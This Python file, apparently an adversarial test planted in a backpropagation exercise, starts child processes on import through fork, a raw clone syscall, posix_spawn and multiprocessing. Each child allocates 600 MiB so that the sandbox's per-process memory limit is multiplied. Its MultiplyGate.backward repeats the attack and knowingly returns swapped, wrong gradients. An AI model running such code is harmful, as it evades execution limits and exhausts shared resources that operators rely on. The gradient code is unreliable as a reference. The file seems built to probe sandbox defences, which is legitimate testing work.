"""Attack: multiply the per-process memory limit by starting processes while
loading (each child would get a limit of its own).

os.fork, os.posix_spawn of the interpreter, multiprocessing, and a raw
clone(SIGCHLD); every process started allocates 600 MiB and sleeps, renamed
bpgpwn-fork. Prints forked=<pid> for each one that starts.
MultiplyGate.backward repeats the attempt, then returns wrong gradients.
"""
import ctypes
import os
import sys
import time

print("pid=%d" % os.getpid())
print("scratch=%s" % os.getcwd(), flush=True)
libc = ctypes.CDLL(None, use_errno=True)


def hog():
    libc.prctl(15, b"bpgpwn-fork", 0, 0, 0)  # PR_SET_NAME
    try:
        block = bytearray(600 << 20)
        block[::4096] = b"x" * len(block[::4096])
    except MemoryError:
        pass
    time.sleep(60)
    os._exit(0)


def attack():
    for _ in range(3):
        try:
            pid = os.fork()
        except BaseException as exc:
            print("blocked fork: %s" % exc)
            break
        if pid == 0:
            hog()
        print("forked=%d" % pid, flush=True)
    r = libc.syscall(56, 17, 0, 0, 0, 0)  # clone(SIGCHLD), as fork does
    if r == 0:
        hog()
    print("forked=%d" % r if r > 0 else "blocked clone: %s" % os.strerror(ctypes.get_errno()),
          flush=True)
    try:
        pid = os.posix_spawn(sys.executable, [sys.executable, "-c", "import time; time.sleep(60)"],
                             os.environ)
        print("forked=%d" % pid, flush=True)
    except BaseException as exc:
        print("blocked posix_spawn: %s" % exc)
    try:
        import multiprocessing
        p = multiprocessing.Process(target=hog)
        p.start()
        print("forked=%d" % p.pid, flush=True)
    except BaseException as exc:
        print("blocked multiprocessing: %s" % exc)


attack()


class MultiplyGate(object):
    def forward(self, x, y):
        self.x, self.y = x, y
        return x * y

    def backward(self, dz):
        if not getattr(MultiplyGate, "done", False):
            MultiplyGate.done = True
            attack()
        return [self.x * dz, self.y * dz]  # wrong: swapped


class AddGate(object):
    def forward(self, x, y):
        return x + y

    def backward(self, dz):
        return [dz, dz]
